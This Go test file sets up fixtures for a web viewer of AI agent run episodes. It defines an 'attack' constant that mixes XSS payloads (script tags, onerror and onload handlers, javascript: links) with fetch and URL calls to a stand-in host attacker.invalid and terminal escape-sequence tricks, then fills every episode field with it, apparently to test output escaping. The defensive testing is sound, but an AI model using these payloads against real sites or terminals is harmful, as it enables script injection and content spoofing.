package viewer_test

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/tracesmith/tracesmith/cmd/internal/viewer"
	"github.com/tracesmith/tracesmith/cmd/internal/wire"
	"github.com/tracesmith/tracesmith/configs"
	"github.com/tracesmith/tracesmith/internal/sinktest"
	"github.com/tracesmith/tracesmith/schemas"
	"github.com/tracesmith/tracesmith/sinks"
)

// runDir returns a run directory with staged episodes.
func runDir(t testing.TB, staged ...sinks.Staged) string {
	t.Helper()
	dir := filepath.Join(t.TempDir(), "run-a")
	write(t, filepath.Join(dir, "run.json"), `{"schema_version":"1","run_id":"run-a"}`)
	stage(t, dir, staged...)
	return dir
}

func write(t testing.TB, path, text string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(text), 0o644); err != nil {
		t.Fatal(err)
	}
}

func stage(t testing.TB, dir string, staged ...sinks.Staged) {
	t.Helper()
	store, err := wire.OpenStore(t.Context(), dir, configs.S3{})
	if err != nil {
		t.Fatal(err)
	}
	for _, s := range staged {
		body, err := sinks.EncodeStaged(s)
		if err != nil {
			t.Fatal(err)
		}
		if err := store.Create(t.Context(), sinks.StagedKey(s.Episode.RunID, s.Episode.EpisodeID), body); err != nil {
			t.Fatal(err)
		}
	}
}

// open returns a viewer of places.
func open(t testing.TB, token string, places ...string) *viewer.Server {
	t.Helper()
	var openers []viewer.Opener
	for _, place := range places {
		openers = append(openers, func(ctx context.Context) (*wire.Data, error) { return wire.OpenData(ctx, place, configs.S3{}) })
	}
	s, err := viewer.New(t.Context(), openers, token)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(s.Close)
	return s
}

// get returns the answer to a request of this machine.
func get(t testing.TB, s *viewer.Server, path string) *httptest.ResponseRecorder {
	t.Helper()
	r := httptest.NewRequest(http.MethodGet, "http://127.0.0.1:1234"+path, nil)
	w := httptest.NewRecorder()
	s.ServeHTTP(w, r)
	return w
}

// page returns the body of a page, which must exist.
func page(t testing.TB, s *viewer.Server, path string) string {
	t.Helper()
	w := get(t, s, path)
	if w.Code != http.StatusOK {
		t.Fatalf("%s: status %d: %s", path, w.Code, w.Body)
	}
	return w.Body.String()
}

// listed is the list as JSON.
type listed struct {
	Total    int                     `json:"total"`
	Matched  int                     `json:"matched"`
	Episodes []schemas.EpisodeRow    `json:"episodes"`
	Dead     []schemas.DeadLetterRow `json:"dead_letters"`
	Error    string                  `json:"error"`
}

func list(t testing.TB, s *viewer.Server, query string) listed {
	t.Helper()
	var out listed
	if err := json.Unmarshal([]byte(page(t, s, "/api/v1/"+query)), &out); err != nil {
		t.Fatal(err)
	}
	return out
}

func wantText(t *testing.T, body string, texts ...string) {
	t.Helper()
	for _, text := range texts {
		if !strings.Contains(body, text) {
			t.Errorf("the page lacks %q", text)
		}
	}
}

// attack is a text that tries to run a script, to load something, and to hide itself.
const attack = `"'><script>document.title="owned";fetch("http://attacker.invalid/s")</script><img src="http://attacker.invalid/i" onerror="document.title='owned'">` +
	`<svg onload="document.title='owned'"></svg><a href="javascript:document.title='owned'">x</a><style>@import url(http://attacker.invalid/c);</style>` +
	"</pre></article></textarea></title><base href=http://attacker.invalid/><meta http-equiv=refresh content='0;url=http://attacker.invalid/'>" +
	"{{.}} \x1b]8;;http://attacker.invalid\x07link\x1b]8;;\x07 \x1b]1338;url=http://attacker.invalid/o\x07 \x1b[31mred\x1b[0m \x00 \u202egnp.exe \r hidden"

// hostile returns an episode whose every text is the attack.
func hostile() sinks.Staged {
	s := sinktest.Episode("run-a", 0)
	e := &s.Episode
	e.InstanceID, e.Repo, e.AgentName, e.Model, e.ExitReason = attack, attack, attack, attack, attack
	for _, field := range []**string{
		&e.ProblemStatement, &e.VerifyReason, &e.ErrorMessage, &e.ErrorClass, &e.BugKind, &e.AgentVersion, &e.VerifyMethod, &e.Difficulty, &e.Ending, &e.ConfigJSON,
	} {
		*field = new(attack)
	}
	e.VerifyWarnings, e.PatchFiles, e.Phases, e.PhaseModels = []string{attack}, []string{attack}, []string{attack}, []string{attack}
	e.Patch = new("diff --git a/x.py b/x.py\n--- a/x.py\n+++ b/x.py\n@@ -1 +1 @@ <script>document.title='owned'</script>\n-old\n+" +
		"<script>document.title='owned'</script>\x1b[31m\n")
	for i := range s.Steps {
		row := &s.Steps[i]
		row.Message, row.Repo, row.InstanceID = attack, e.Repo, e.InstanceID
		if row.ToolName != nil {
			arguments, _ := json.Marshal(map[string]string{"command": "p " + attack, attack: attack})
			row.ArgumentsJSON = new(string(arguments))
			row.Observation, row.Reasoning, row.ErrorClass, row.IsError = new(attack), new(attack), new(attack), new(true)
			row.FrameFile, row.FrameLine, row.FrameFunction, row.DebuggerEvent = new(attack), new(int32(3)), new(attack), new(attack)
			triggered, _ := json.Marshal([]map[string]string{{"source": attack, "text": attack}})
			row.TriggeredJSON = new(string(triggered))
			breakpoints, _ := json.Marshal([]map[string]any{{"file": attack, "line": i, "condition": attack}})
			row.BreakpointsJSON = new(string(breakpoints))
			claims, _ := json.Marshal([]schemas.CheckedClaim{{Claim: schemas.Claim{Kind: "value", Expression: attack, Value: attack}, Verdict: attack, Why: attack}})
			row.ClaimsJSON = new(string(claims))
			row.UnseenJSON, row.MaskReason, row.Phase = new(`[{"kind":"value","text":"<script>document.title='owned'</script>"}]`), new(attack), new(attack)
		}
	}
	return s
}

// many returns n small episodes that differ in their turns.
func many(n int) []sinks.Staged {
	var all []sinks.Staged
	for i := range n {
		s := sinktest.Episode("run-a", i)
		s.Episode.NTurns, s.Episode.Resolved = int32(i), new(i%3 != 0)
		if i%3 == 0 {
			s.Episode.Outcome = new(schemas.OutcomeUnresolved)
		}
		s.Steps = s.Steps[:3]
		s.Episode.NSteps = 3
		all = append(all, s)
	}
	return all
}

// long returns an episode with steps of the given size of text.
func long(steps, size int) sinks.Staged {
	s := sinktest.Episode("run-a", 0)
	line := "a line of output that a test printed, with a number: "
	s.Steps = s.Steps[:3]
	for i := range steps {
		text := strings.Repeat(line+"0123456789\n", size/(len(line)+11)+1)[:size]
		if i == steps-1 {
			text += "\nthe needle in the last step"
		}
		s.Steps = append(s.Steps, schemas.StepRow{
			EpisodeID: s.Episode.EpisodeID, StepIndex: int32(i + 3), TurnIndex: new(int32(i)), CallIndex: new(int32(0)), Split: "train", Repo: s.Episode.Repo,
			InstanceID: s.Episode.InstanceID, Source: "agent", Message: fmt.Sprintf("I do step %d.", i), ActionKind: "exec", Train: true, ToolName: new("bash"),
			ToolCallID: new(fmt.Sprint("call", i)), ArgumentsJSON: new(`{"command":"make"}`), Observation: &text,
		})
	}
	s.Episode.NSteps = int32(len(s.Steps))
	return s
}

func readAll(t *testing.T, r io.Reader) string {
	t.Helper()
	body, err := io.ReadAll(r)
	if err != nil {
		t.Fatal(err)
	}
	return string(body)
}
